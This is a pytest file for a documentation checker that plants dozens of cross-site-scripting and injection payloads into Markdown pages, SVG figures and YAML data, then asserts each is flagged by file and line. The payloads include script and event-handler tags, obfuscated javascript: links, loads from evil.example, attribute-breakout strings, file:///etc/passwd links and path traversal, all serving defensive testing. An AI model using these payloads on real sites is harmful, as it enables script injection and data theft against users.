"""Content that would run, draw or fetch: each payload is refused with its file and line. What any text may hold is shown to be inert by
`tests/browser/test_hostile.py`."""

from __future__ import annotations

import pytest
from kb import check, read

from tests.conftest import Project

ZH, EN, FIGURE = "docs/zh/one/alpha.md", "docs/en/one/alpha.md", "docs/figures/alpha.svg"
RUN = "alert(1)"

# Lines of Markdown, planted all at once: each must be named by itself.
MARKDOWN = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT> {RUN}",
    f"<img src=x onerror={RUN}>",
    f"甲<img/src/onerror={RUN}//>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>x</button></form>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<embed src=https://evil.example/x.swf>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><x onclick={RUN}>",
    f"</p><img src=x onerror={RUN}",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](java&#9;script:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](vbscript:{RUN} 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    f"[x][ref]\n\n[ref]: javascript:{RUN}",
    f"[ref2]\n\n[ref2]: <javascript:{RUN}> 'title'",
    "![x](https://evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][pic]\n\n[pic]: https://evil.example/x.png",
    f"![x](x.svg){{ onclick={RUN} }}",
    f"**甲**{{: onclick={RUN} }}",
    f"甲\n{{: onmouseover={RUN} }}",
    "[乙](../two/beta.md){ style='background:url(https://evil.example/x)' }",
    f"#### 标题 {{ #x onclick={RUN} }}",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    "$\\href{https://evil.example/}{x}$",
    f"$\\url{{javascript:{RUN}}}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    f"$\\htmlData{{onclick={RUN}}}{{x}}$",
    "$\\htmlClass{md-overlay}{x}$",
    "$\\htmlId{answer}{x}$",
    "$\\htmlStyle{background:url(https://evil.example/x)}{x}$",
    "$\\color{red}{x}$",
    "$\\def\\x{\\x\\x}\\x$",
    "$\\class{x}{y}$",
]
# Attributes and elements of a figure.
FIGURES = [
    f"<script>{RUN}</script>",
    f"<rect onload='{RUN}'/>",
    f"<rect onclick='{RUN}' width='1' height='1'/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
    "<image href='https://evil.example/x.png'/>",
    "<image xlink:href='https://evil.example/x.png' xmlns:xlink='http://www.w3.org/1999/xlink'/>",
    "<use href='https://evil.example/x.svg#a'/>",
    f"<a href='javascript:{RUN}'><text>x</text></a>",
    f"<animate attributeName='href' values='javascript:{RUN}'/>",
    f"<set attributeName='onmouseover' to='{RUN}'/>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<rect style='fill:url(https://evil.example/x)'/>",
    "<rect fill='url(https://evil.example/x#y)'/>",
    "<rect fill='url( &quot;//evil.example/x#y&quot;)'/>",
    "<rect filter='url(data:image/svg+xml,x)'/>",
    "<handler type='text/javascript'>x</handler>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='x'/>",
]


def test_every_hostile_line_of_a_page_is_named(project: Project) -> None:
    """In both languages at once; a definition of a link counts where it stands."""
    for path in (ZH, EN):
        text, lines = project.read(path), {}
        for payload in MARKDOWN:
            text += "\n"
            first = text.count("\n") + 1
            text += payload + "\n"
            lines[payload] = range(first, text.count("\n") + 1)
        project.write(path, text)
        found = {p.line for p in check.check(read.read(project.root)) if p.path == path}
        assert [payload for payload, own in lines.items() if not found & set(own)] == [], path


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_hostile_part_of_a_figure_is_named(project: Project, lang: str) -> None:
    text = project.read(FIGURE)
    lines = {}
    for payload in FIGURES:
        lines[payload] = text.count("\n", 0, text.index("</svg>")) + 1
        text = text.replace("</svg>", f"{payload}\n</svg>")
    project.write(FIGURE, text)
    found = [p for p in check.check(read.read(project.root)) if p.path == FIGURE]
    assert set(lines.values()) <= {p.line for p in found}


ELSEWHERE = {
    "doctype in a figure": (FIGURE, "<svg xmlns", '<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns', 1),
    "stylesheet for a figure": (
        FIGURE,
        "<svg xmlns",
        '<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns',
        1,
    ),
    "address of a source": ("data/sources.yml", 'arxiv: "2001.00001"', f'url: "javascript:{RUN}"', 6),
    "another address of a source": ("data/sources.yml", 'arxiv: "2001.00001"', 'url: "data:text/html,x"', 6),
    "number of a source": ("data/sources.yml", 'arxiv: "2001.00001"', 'arxiv: "x\\" onclick=\\"alert(1)"', 6),
    "doi of a source": ("data/sources.yml", 'arxiv: "2001.00001"', 'doi: "10.1/x\\"><script>"', 6),
    "key of a source": ("data/sources.yml", "adams2020:", '"adams2020<script>":', 1),
    "evidence of a correction": ("data/corrections/000.yml", "verify/alpha_size.py]", f'"javascript:{RUN}"]', 14),
    "id of a correction": ("data/corrections/000.yml", "id: 000-01-1", 'id: "x\\" onclick=\\"alert(1)"', 1),
    "verdict of a correction": ("data/corrections/000.yml", "verdict: wrong", 'verdict: "wrong\\"><script>"', 4),
    "formula of a correction": ("data/corrections/000.yml", "$x=1$。", f"$\\href{{javascript:{RUN}}}{{x}}$。", 1),
    "raw HTML in a correction": ("data/corrections/000.yml", "甲占 3 GB。", f"甲占<img src=x onerror={RUN}>。", 1),
    "link of a correction": ("data/corrections/000.yml", "甲占 3 GB。", f"甲占[甲](javascript:{RUN})。", 1),
    "raw HTML in an erratum": ("data/errata.yml", "甲占 3 GB。", f"甲占<svg onload={RUN}>。", 1),
    "id of a stage": ("data/stages.yml", "- id: one", '- id: "one\\"><script>"', 1),
    "id of a question in a stage": ("data/stages.yml", "[alpha]", '["alpha\\"><script>"]', 4),
    "address of what has moved": ("data/moved.yml", "{old-alpha: alpha}", '{"../../x": alpha}', 1),
    "anchor of what has moved": ("data/moved.yml", "{old-detail: detail}", "{'x\" onclick=\"alert(1)': detail}", 1),
    "template of a page": ("docs/zh/glossary.md", "template: glossary.html", "template: ../../etc/passwd", 2),
    "description of a page": (
        "docs/zh/glossary.md",
        "template: glossary.html",
        "template: glossary.html\ndescription: [x]",
        3,
    ),
}


@pytest.mark.parametrize("name", ELSEWHERE)
def test_hostile_data_is_named(project: Project, name: str) -> None:
    path, old, new, line = ELSEWHERE[name]
    project.edit(path, old, new)
    assert (path, line) in {(p.path, p.line) for p in project.problems()}
